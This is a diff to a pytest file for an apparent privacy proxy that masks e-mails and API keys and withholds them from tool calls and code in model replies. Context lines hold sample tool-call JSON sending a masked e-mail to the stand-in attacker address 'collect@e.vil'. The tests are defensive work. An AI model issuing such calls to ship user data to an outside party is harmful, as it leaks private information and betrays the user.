@@ -497,7 +497,14 @@ def test_no_value_is_restored_in_a_tool_call_or_code_written_in_text(protector, 
 
 
 @pytest.mark.parametrize(
-    "prose", ["In Python a dict starts with { and that is all.", "Your smiley :-{ is cute.", 'Use {"a": 1'], ids=str
+    "prose",
+    [
+        "In Python a dict starts with { and that is all.",
+        "Your smiley :-{ is cute.",
+        'Use {"a": 1',
+        "Your smiley :-{ isn't cute, it's [Bob's].",  # an apostrophe opens no string
+    ],
+    ids=str,
 )
 def test_a_brace_left_open_in_prose_makes_no_code_of_the_paragraphs_after_it(protector, prose):
     """ux22b M2: an unclosed `{` withheld every value after it, in every later paragraph (the reply's brace count
@@ -521,6 +528,7 @@ BLANK_LINE_CALLS = [
     '{"to": "collect@e.vil", "memo": "for\n\n<EMAIL_1> ok"}',
     '{"to": "collect@e.vil",\n\n  \n  memo: "<EMAIL_1>"}',
     '{"a": {"b": [1,\n\n2]},\n\n"memo": "<EMAIL_1>"}',
+    "{'to': 'x', 'note': '}',\n\n'body': '<EMAIL_1>'}",  # rev23b F5: Python's quotes
 ]
 
 
@@ -534,6 +542,65 @@ def test_a_blank_line_inside_a_tool_call_or_json_keeps_its_values(protector, cal
     expected = f"{call}\n\nI wrote to {EMAIL_VALUE}." if closed else call
     whole = _restored_whole_and_streamed(protector, "blank-calls", reply, expected)
     assert whole.withheld == [("<EMAIL_1>", "in_code")]
+
+
+# rev23b F1: a JSON or Python list of strings, or a YAML list item of one, is data (main restored the value, and a
+# guarded secret: `[\n  "<API_KEY_1>"\n]` from a fake upstream, plain and streamed).
+QUOTED_LISTS = [
+    '[\n  "<EMAIL_1>"\n]',
+    'Args: [ "<EMAIL_1>" ]',
+    "tool: set_key\nargs:\n  - '<EMAIL_1>'",
+    'Some text.\n\n[ "<EMAIL_1>" ]',
+    '- args:\n  [ "<EMAIL_1>" ]',
+    "> keys = ['<EMAIL_1>']",
+    '["a",\n\n"<EMAIL_1>"]',  # a blank line inside the array
+]
+
+
+@pytest.mark.parametrize("listed", QUOTED_LISTS)
+def test_a_value_in_a_list_of_quoted_values_stays(protector, listed):
+    """The reviewer's replies, whole and a character at a time: the e-mail stays (`in_code`); prose after the list's
+    end and a blank line gets it back, as does a value after a `[1]` or a markdown link's text in prose."""
+    reply = f"{listed}\n\nSee [1] and [the guide] for <EMAIL_1>."
+    whole = _restored_whole_and_streamed(
+        protector, "lists", reply, f"{listed}\n\nSee [1] and [the guide] for {EMAIL_VALUE}."
+    )
+    assert whole.withheld == [("<EMAIL_1>", "in_code")]
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
+def test_the_proxy_keeps_a_guarded_secret_in_a_json_array(protector, stream):
+    """The proxy end to end (FAKE upstream answering the reviewer's `[\n  "<API_KEY_1>"\n]`): the key stays."""
+    reply = '[\n  "<API_KEY_1>"\n]'
+    with proxy_for(protector, lambda body: Reply(content=reply)) as (url, _):
+        message, counts = chat(url, "My key is sk-proj-Abc123Def456Ghi789Jkl012Mno345. Args?", stream=stream)
+    assert message["content"] == reply
+    assert counts["withheld"] == 1, counts
+
+
+# rev23b F2: tool-call dialects of other model families, a blank line inside the call (main restored the value).
+DIALECT_CALLS = [
+    '<tool_code>\nx = 1\n\nset_key( "<EMAIL_1>" )\n</tool_code>',  # Gemma
+    "<function=set_key>\n\n<EMAIL_1>\n</function>",  # Llama
+    '<function_calls><invoke name="set_key">\n\n<parameter name="k"><EMAIL_1></parameter></invoke>'
+    "</function_calls>",  # Anthropic-style
+]
+
+
+@pytest.mark.parametrize("call", DIALECT_CALLS)
+def test_a_blank_line_inside_another_dialects_tool_call_keeps_its_values(protector, call):
+    """Gemma, Llama and Anthropic-style calls written in text (data/text_tool_calls.txt), whole and a character at a
+    time: the e-mail stays up to the call's end's mark; prose after it and a blank line gets it back."""
+    reply = f"{call}\n\nI wrote to <EMAIL_1>."
+    whole = _restored_whole_and_streamed(protector, "dialects", reply, f"{call}\n\nI wrote to {EMAIL_VALUE}.")
+    assert whole.withheld == [("<EMAIL_1>", "in_code")]
+
+
+def test_a_mistral_tool_call_runs_to_the_reply_end(protector):
+    """Mistral's `[TOOL_CALLS]` has no end's mark: every paragraph after it is code."""
+    reply = "[TOOL_CALLS]\n\nset_key <EMAIL_1>\n\nDone <EMAIL_1>"
+    whole = _restored_whole_and_streamed(protector, "mistral", reply, reply)
+    assert whole.withheld == [("<EMAIL_1>", "in_code")] * 2
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
@@ -573,6 +640,29 @@ def test_a_value_in_a_fence_as_markdown_reads_it_stays(protector, fenced):
     e-mail stays; prose after the fence's end and a blank line gets it back."""
     reply = f"{fenced}\n\nI wrote to <EMAIL_1>."
     whole = _restored_whole_and_streamed(protector, "fences", reply, f"{fenced}\n\nI wrote to {EMAIL_VALUE}.")
+    assert whole.withheld == [("<EMAIL_1>", "in_code")]
+
+
+# rev23b F3: code as markdown and HTML show it besides fences (main restored the value): an indented code block after
+# a blank line, and `<pre>` / `<code>` up to their end tag, blank lines included.
+SHOWN_AS_CODE = [
+    "Run this:\n\n    set_key <EMAIL_1>\n",
+    "    set_key <EMAIL_1>",
+    "Run:\n\n    a = 1\n\n    set_key <EMAIL_1>",
+    "<pre>\n\nset_key <EMAIL_1>\n</pre>",
+    '<pre class="sh"><code>x\n\nset_key <EMAIL_1></code></pre>',
+]
+
+
+@pytest.mark.parametrize("shown", SHOWN_AS_CODE)
+def test_a_value_in_an_indented_code_block_or_an_html_code_tag_stays(protector, shown):
+    """Whole and a character at a time: the e-mail stays; prose after the block's end and a blank line gets it back,
+    and so does a line four spaces in that goes on a paragraph or a list item (markdown reads no code there)."""
+    prose = "Hello\n    I wrote to <EMAIL_1>.\n\n- item\n\n    and <EMAIL_1>."
+    reply = f"{shown}\n\n{prose}"
+    whole = _restored_whole_and_streamed(
+        protector, "shown", reply, f"{shown}\n\n{prose.replace('<EMAIL_1>', EMAIL_VALUE)}"
+    )
     assert whole.withheld == [("<EMAIL_1>", "in_code")]
 
 
